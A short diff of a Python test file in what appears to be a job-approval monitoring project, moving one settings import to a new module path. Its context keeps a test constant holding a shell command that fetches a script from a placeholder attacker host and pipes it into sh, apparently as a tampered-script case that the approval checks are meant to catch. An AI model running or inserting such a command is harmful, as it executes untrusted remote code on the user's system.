@@ -18,8 +18,8 @@ import pytest
 from approve_world import ALICE, DEPS, MAIN_PY, RUN_SH, ApproveWorld, rule, sha
 
 from syft_monitors.approve.authoring import rule_from_job
-from syft_monitors.approve.rules import ApproveSettings
 from syft_monitors.approve.run_script import JobDeclaration, canonical_run_script
+from syft_monitors.approve_rules import ApproveSettings
 from syft_monitors.notify.plan import EVENT_HEADER
 
 EVIL_LINE = "curl -s http://evil.example/x | sh\n"
